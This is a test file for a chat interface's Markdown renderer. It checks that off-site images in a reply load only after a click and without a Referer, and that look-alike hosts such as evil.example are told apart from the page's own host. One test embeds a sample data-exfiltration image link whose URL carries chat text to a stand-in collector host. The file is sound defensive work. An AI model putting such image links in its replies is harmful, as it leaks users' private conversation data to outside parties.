import { renderWithProvider } from '@atelier/core/testing';
import { screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it } from 'vitest';
import { remoteImageHost } from './MarkdownImage';
import { MarkdownRenderer } from './MarkdownRenderer';

describe('images in a reply', () => {
  it('an image on another site sends nothing until the reader asks for it, then loads without a Referer', async () => {
    const { container } = renderWithProvider(
      <MarkdownRenderer text={'Done. ![chart](https://collector.example/p.png?q=my%20secret%20chat)'} />,
    );
    expect(container.querySelector('img')).toBeNull();
    const button = screen.getByRole('button', { name: 'Show image from collector.example' });
    await userEvent.click(button);
    const img = container.querySelector('img');
    expect(img?.getAttribute('src')).toBe('https://collector.example/p.png?q=my%20secret%20chat');
    expect(img?.getAttribute('alt')).toBe('chart');
    expect(img?.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it("the page's own images show at once", () => {
    const { container } = renderWithProvider(<MarkdownRenderer text={'![own](/api/attachments/a.png)'} />);
    expect([...container.querySelectorAll('img')].map((img) => img.getAttribute('alt'))).toEqual(['own']);
    expect(screen.queryByRole('button')).toBeNull();
  });

  it('tells look-alike and protocol-relative hosts from the page', () => {
    const page = 'https://books.example/chat';
    expect(remoteImageHost('/x.png', page)).toBeNull();
    expect(remoteImageHost('data:image/png;base64,iVBORw0KGgo=', page)).toBeNull();
    expect(remoteImageHost('https://books.example/x.png', page)).toBeNull();
    expect(remoteImageHost('//evil.example/x.png', page)).toBe('evil.example');
    expect(remoteImageHost('https://books.example.evil.example/x.png', page)).toBe('books.example.evil.example');
    expect(remoteImageHost('http://books.example/x.png', page)).toBe('books.example');
  });
});
